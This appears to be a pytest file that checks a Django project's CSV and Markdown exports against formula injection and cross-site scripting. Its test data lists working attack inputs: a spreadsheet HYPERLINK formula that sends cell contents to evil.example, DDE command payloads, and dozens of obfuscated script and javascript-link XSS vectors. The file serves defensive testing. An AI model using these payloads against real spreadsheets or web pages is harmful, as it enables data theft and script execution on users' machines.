"""Exports are safe to open: no formula runs in a spreadsheet, no script in a Markdown viewer."""

import csv
import io
import re

import markdown
import pytest
from markdown_it import MarkdownIt

from features.content_io.safe_markdown import safe_markdown
from features.models import Area, DocLink, Feature
from sessions.models import Event
from tests.features.conftest import export
from tests.html import active_content
from tests.test_public_pages import XSS_MARKDOWN
from tests.test_xss import editor_text_fields

pytestmark = pytest.mark.django_db

# CSV -------------------------------------------------------------------------------------------

CSV_PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "%0A=1+1",
    "|calc",
]
FORMULA_START = ("=", "+", "-", "@", "|", "%", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9,.]+")


def csv_rows(*args: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(export("--format", "csv", *args))))


def _write_everywhere_in_the_csv(text: str) -> None:
    feature = Feature.objects.get(slug="localdns")
    feature.name = feature.topic_en = feature.summary_en = text
    feature.save()
    Area.objects.filter(pk=feature.area_id).update(name_en=text)
    Event.objects.update(name_en=text)
    DocLink.objects.filter(feature=feature).update(title_en=text)


@pytest.mark.parametrize("payload", CSV_PAYLOADS)
def test_no_csv_cell_starts_a_formula(launch_content, payload):
    _write_everywhere_in_the_csv(payload)
    rows = csv_rows()
    starting_a_formula = [
        cell
        for row in rows
        for cell in row.values()
        if cell.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(cell)
    ]
    assert starting_a_formula == []
    localdns = next(row for row in rows if row["slug"] == "localdns")
    # The text stays readable behind the apostrophe (defusedcsv also writes | as \|).
    assert localdns["name"] == "'" + payload.replace("|", "\\|")


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("-1", "-1"),
        ("1,000", "1,000"),
        ("-1.5", "-1.5"),
        ("+ plus", "'+ plus"),
        ("- minus", "'- minus"),
        ("@home", "'@home"),
        ("=1+1", "'=1+1"),
        ("\tindented", "'\tindented"),
        ("AKS - fast, =simple", "AKS - fast, =simple"),
        ("Café <b> & “quotes”, commas", "Café <b> & “quotes”, commas"),
        ("二行の\n説明", "二行の\n説明"),
    ],
)
def test_ordinary_text_reads_back_as_written_and_formulas_behind_an_apostrophe(
    launch_content, written, read
):
    _write_everywhere_in_the_csv(written)
    localdns = next(row for row in csv_rows() if row["slug"] == "localdns")
    assert (localdns["name"], localdns["topic"], localdns["summary"], localdns["area"]) == (
        read,
        read,
        read,
        read,
    )


# Markdown --------------------------------------------------------------------------------------


def python_markdown(text: str) -> str:
    return markdown.markdown(text, extensions=["extra"])


def markdown_it(text: str) -> str:
    """CommonMark with raw HTML on and markdown-it's own link filter off: no sanitising."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
    renderer.validateLink = lambda url: True
    return renderer.render(text)


RENDERERS = [python_markdown, markdown_it]

MARKDOWN_PAYLOADS = [
    *XSS_MARKDOWN,
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\njavascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](vbscript:msgbox(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]:\n  <vbscript:msgbox(1)>",
    "<javascript:alert(1)>",
    "- [x](javascript:alert(1))",
    '[x](https://ok.example){: onclick="alert(1)"}',
    "# Heading {: onmouseover=alert(1) }",
    "Paragraph\n{: onclick=alert(1) }",
    "```{ onclick=alert(1) }\ncode\n```",
    "```\n<script>alert(1)</script>\n```",
    "``` x\n~~~\n<script>alert(1)</script>\n```",
    "~~~\n<script>alert(1)</script>",
    "```\n<script>alert(1)</script>",
    "   ```\n<script>alert(1)</script>\n```",
    "~~~\n```\n~~~\n<img src=x onerror=alert(1)>\n```",
    "    <script>alert('indented')</script>",
    "`<img src=x onerror=alert(1)>`",
    "\\`<img src=x onerror=alert(1)>`",
    "\\\\`<b onclick=alert(1)>x</b>`",
    "``a`<b onclick=alert(1)>`",
    "`a\n<script>alert(1)</script>`",
    "\\<script>alert(1)</script>",
    "<!-- x --><script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "*[HTML]: <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '<https://ok.example/"onmouseover="alert(1)>',
]


def _write_everywhere_in_the_article(text: str) -> None:
    for model, name in editor_text_fields():
        max_length = model._meta.get_field(name).max_length
        for obj in model.objects.all()[:3]:
            setattr(obj, name, text[:max_length] if max_length else text)
            obj.save()


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_the_article_runs_no_script_in_an_ordinary_markdown_renderer(launch_content, payload):
    _write_everywhere_in_the_article(f"Before {payload} after")
    for language in ("en", "ja"):
        article = export("--format", "markdown", "--language", language)
        assert "Before" in article
        for render in RENDERERS:
            assert active_content(render(article)) == [], (render.__name__, language)


def test_the_check_sees_what_the_article_would_have_carried():
    """Unprotected, the renderers run the payloads: the test above can fail."""
    for render in RENDERERS:
        unsafe = [payload for payload in MARKDOWN_PAYLOADS if active_content(render(payload))]
        assert len(unsafe) > len(MARKDOWN_PAYLOADS) // 2, render.__name__
    for payload in MARKDOWN_PAYLOADS:
        for render in RENDERERS:
            assert active_content(render(safe_markdown(payload))) == [], (payload, render)


ORDINARY = (
    "Use *emphasis*, **strong**, [the docs](https://learn.microsoft.com/azure/aks/), "
    "`a < b && c > d`, 1 < 2 and <https://example.com/x>.\n"
    "\n"
    "- one\n"
    "- two\n"
    "\n"
    "```yaml\n"
    "kind: <Pod>\n"
    "```"
)


@pytest.mark.parametrize("render", RENDERERS)
def test_ordinary_markdown_survives_the_export(launch_content, render):
    Event.objects.update(intro_en=ORDINARY)
    html = render(export("--format", "markdown"))
    for expected in (
        "<em>emphasis</em>",
        "<strong>strong</strong>",
        '<a href="https://learn.microsoft.com/azure/aks/">the docs</a>',
        "<code>a &lt; b &amp;&amp; c &gt; d</code>",
        "1 &lt; 2",
        '<a href="https://example.com/x">https://example.com/x</a>',
        "<li>one</li>",
        '<code class="language-yaml">kind: &lt;Pod&gt;',
    ):
        assert expected in html


@pytest.mark.parametrize("render", RENDERERS)
def test_raw_html_in_the_article_shows_as_text(render):
    html = render(safe_markdown('<b onclick="x()">bold</b> and [x](javascript:y())'))
    assert "&lt;b onclick=" in html and "<b " not in html
    assert 'href="#javascript:y()"' in html
